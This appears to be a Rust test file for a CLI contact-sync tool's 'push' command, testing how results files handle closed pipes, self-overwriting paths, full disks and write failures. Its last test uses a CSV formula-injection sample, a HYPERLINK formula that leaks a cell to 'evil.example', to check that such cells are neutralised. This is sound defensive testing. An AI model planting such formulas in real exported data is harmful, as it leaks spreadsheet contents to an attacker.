//! CLI tests: `push` results files and output: refused paths, write failures, a reader that
//! goes away, cells that would start a formula.

use crate::util::{contacts_csv, Cli, Sandbox};
use serde_json::Value;
use std::process::Command;

#[test]
fn a_reader_that_stops_early_neither_crashes_a_push_nor_cuts_its_results_file() {
    use std::io::BufRead;
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let mut csv = String::from("email,name\n");
    for i in 0..400 {
        csv.push_str(&format!("reader{i}@example.com,Reader {i}\n"));
    }
    let from = cli.write("many.csv", &csv);
    let results = cli.path("dr.csv").display().to_string();
    // `driftbridge push ... --dry-run | head -1`
    let mut child = cli
        .command(&[
            "push",
            "contacts",
            "--credential",
            "sb",
            "--from",
            &from,
            "--results",
            &results,
            "--dry-run",
        ])
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    // The reader is gone now; every later line meets a closed pipe.
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        first.starts_with("row 1: ") && first.contains(": would create"),
        "{first}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(
        cli.results("dr.csv").len(),
        400,
        "every row has its outcome"
    );
}

/// `--results` naming what the run reads is refused before anything is written: creating
/// the results file would empty the input, and the reader would then read the lines the
/// writer appends, rejecting each and appending another, until the disk is full.
#[test]
fn a_results_file_that_is_an_input_is_refused_and_the_input_is_left_intact() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let text = "email,name\nloop@example.com,Loop\nnot-an-email,Bad\n";
    let from = cli.write("loop.csv", text);
    std::os::unix::fs::symlink(cli.path("loop.csv"), cli.path("link.csv")).unwrap();
    std::fs::hard_link(cli.path("loop.csv"), cli.path("hard.csv")).unwrap();
    let db = cli.path("in.db");
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute_batch("CREATE TABLE t (email TEXT); INSERT INTO t VALUES ('sq@example.com');")
        .unwrap();
    drop(conn);
    let db_bytes = std::fs::read(&db).unwrap();
    let sqlite = format!("sqlite:{}?table=t", db.display());
    let mapping = cli.write("map.json", r#"{"email": "email"}"#);
    let store = cli.data_dir().join("driftbridge.db").display().to_string();
    let cases: [(&[&str], &str); 7] = [
        (&["--from", &from, "--results", &from], "the input file"),
        (
            &["--from", "loop.csv", "--results", "./loop.csv"],
            "the input file",
        ),
        (
            &["--from", &from, "--results", "link.csv"],
            "the input file",
        ),
        (
            &["--from", &from, "--results", "hard.csv"],
            "the input file",
        ),
        (&["--from", &sqlite, "--results", "in.db"], "the input file"),
        (
            &[
                "--from",
                &from,
                "--mapping",
                &mapping,
                "--results",
                &mapping,
            ],
            "the mapping file",
        ),
        (&["--from", &from, "--results", &store], "data directory"),
    ];
    for (extra, what) in cases {
        let mut args = vec!["push", "contacts", "--credential", "sb", "--dry-run", "-q"];
        args.extend_from_slice(extra);
        let run = cli.run(&args);
        assert_eq!(run.code, 2, "{extra:?}: {}", run.stderr);
        assert!(
            run.stderr.contains("--results") && run.stderr.contains(what),
            "{extra:?}: names the flag and the file: {}",
            run.stderr
        );
        assert!(
            run.stderr.contains("choose another path for --results"),
            "{extra:?}: names the fix: {}",
            run.stderr
        );
        assert_eq!(std::fs::read_to_string(&from).unwrap(), text, "{extra:?}");
    }
    assert_eq!(
        std::fs::read(&db).unwrap(),
        db_bytes,
        "the database is intact"
    );
    assert_eq!(
        std::fs::read_to_string(&mapping).unwrap(),
        r#"{"email": "email"}"#
    );
    assert!(
        store::Store::open(cli.data_dir()).is_ok(),
        "the store is intact"
    );
}

#[test]
fn a_results_file_on_a_full_disk_is_refused_before_anything_is_sent() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let before = sandbox.contact_count();
    let from = cli.write("in.csv", &contacts_csv("full", 50));
    let run = cli.push_to("/dev/full", &from);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("/dev/full") && run.stderr.contains("No space left on device"),
        "{}",
        run.stderr
    );
    assert_eq!(sandbox.contact_count(), before, "nothing was sent");
    assert_eq!(sandbox.route_count("contacts.create"), 0);
    let store = cli.store();
    let runs = store.list_runs(5).unwrap();
    assert!(
        runs.iter()
            .all(|r| r.status != "interrupted" && r.status != "running"),
        "{runs:?}"
    );
}

#[test]
fn a_results_path_that_cannot_hold_results_is_refused_naming_the_fix() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write("in.csv", &contacts_csv("path", 3));
    std::fs::create_dir(cli.path("adir")).unwrap();
    for (results, says) in [
        ("adir", "is a directory: name a regular file"),
        (
            "r.parquet",
            "`.parquet` is not a results format; name a .csv or .jsonl file",
        ),
    ] {
        let path = cli.path(results).display().to_string();
        let run = cli.push_to(&path, &from);
        assert_eq!(run.code, 2, "{results}: {}", run.stderr);
        assert!(run.stderr.contains(says), "{results}: {}", run.stderr);
    }
    assert_eq!(
        sandbox.route_count("contacts.create"),
        0,
        "nothing was sent"
    );
}

#[cfg(unix)]
#[test]
fn a_results_file_that_fails_mid_run_stops_the_push_and_records_it_failed() {
    use std::io::Read;
    let sandbox = Sandbox::small().latency_ms(20).start();
    let cli = Cli::with_sb(&sandbox);
    let before = sandbox.contact_count();
    let from = cli.write("in.csv", &contacts_csv("gone", 200));
    // The results "file" is a pipe whose reader goes away after the header and 3 rows:
    // later writes fail (EPIPE), as on a disk that fills up during the run.
    let fifo = cli.path("results.csv");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || {
            let mut f = std::fs::File::open(&fifo).unwrap();
            let (mut seen, mut buf) = (Vec::new(), [0u8; 256]);
            while seen.iter().filter(|b| **b == b'\n').count() < 4 {
                let n = f.read(&mut buf).unwrap();
                if n == 0 {
                    break;
                }
                seen.extend_from_slice(&buf[..n]);
            }
        })
    };
    let run = cli.push_to(&fifo.display().to_string(), &from);
    reader.join().unwrap();
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    // Opening a pipe waits for its reader: the user is told, so a pipe nobody reads does
    // not look like a silent hang.
    assert!(
        run.stderr
            .contains("is a named pipe: waiting for a process to read it"),
        "{}",
        run.stderr
    );
    let store = cli.store();
    let runs = store.list_runs(5).unwrap();
    assert_eq!(runs[0].status, "failed", "{:?}", runs[0]);
    let created = runs[0].summary["counts"]["created"].as_u64().unwrap();
    assert!(
        created > 0 && created < 200,
        "the run stopped sending: {created}"
    );
    assert_eq!(sandbox.contact_count(), before + created);
    assert!(
        run.stderr.contains("cannot write the results")
            && run.stderr.contains(&format!("{created} created"))
            && run.stderr.contains("could not be saved")
            && run.stderr.contains("not created twice"),
        "{}",
        run.stderr
    );

    // A re-run with a writable results file finds those contacts: nothing twice.
    let run = cli.push("contacts", &from, "r.csv", &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let r = cli.results("r.csv");
    let unchanged = r.values().filter(|o| o.0 == "unchanged").count() as u64;
    assert_eq!(unchanged, created);
    assert_eq!(sandbox.contact_count(), before + 200);
}

/// Issue 17 item 4: a key a spreadsheet would run as a formula (`=HYPERLINK(...)`, `@SUM`,
/// `+`, `-`) gets a leading `'` in a CSV results file, while the `input` cell keeps the row
/// as read (a re-feed reads that) and a JSONL results file keeps the values exactly.
#[test]
fn results_csv_cells_that_start_a_formula_are_neutralised_and_jsonl_is_unchanged() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
    let from = cli.write(
        "formulas.csv",
        &format!(
            "externalId,email\n\"{}\",a@example.com\n@SUM(1+1),b@example.com\n+1,c@example.com\n-1,d@example.com\nplain,e@example.com\n",
            formula.replace('"', "\"\"")
        ),
    );
    let args = ["--key", "externalId", "--dry-run"];
    let run = cli.push("contacts", &from, "formulas-results.csv", &args);
    assert!([0, 5].contains(&run.code), "{}", run.stderr);
    let mut reader = csv::Reader::from_path(cli.path("formulas-results.csv")).unwrap();
    let mut rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    rows.sort_by_key(|r| r[0].parse::<u64>().unwrap());
    let keys: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
    assert_eq!(
        keys,
        [
            format!("'{formula}").as_str(),
            "'@SUM(1+1)",
            "'+1",
            "'-1",
            "plain"
        ]
    );
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
    let input: Value = serde_json::from_str(&rows[0][5]).unwrap();
    assert_eq!(
        input["externalId"], formula,
        "the input cell keeps the row as read"
    );

    let jsonl = cli.push("contacts", &from, "formulas-results.jsonl", &args);
    assert!([0, 5].contains(&jsonl.code), "{}", jsonl.stderr);
    let text = std::fs::read_to_string(cli.path("formulas-results.jsonl")).unwrap();
    let first: Value = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|l| l["row"] == 1)
        .unwrap();
    assert_eq!(first["key"], formula, "JSONL results are unchanged");

    let results = cli.path("formulas-results.csv").display().to_string();
    let again = cli.push("contacts", &results, "formulas-again.csv", &args);
    assert!([0, 5].contains(&again.code), "{}", again.stderr);
    let mut reader = csv::Reader::from_path(cli.path("formulas-again.csv")).unwrap();
    let first = reader
        .records()
        .map(|r| r.unwrap())
        .find(|r| &r[0] == "1")
        .unwrap();
    assert_eq!(
        &first[1],
        format!("'{formula}"),
        "a re-fed results file reads the original value, not the neutralised cell"
    );
}
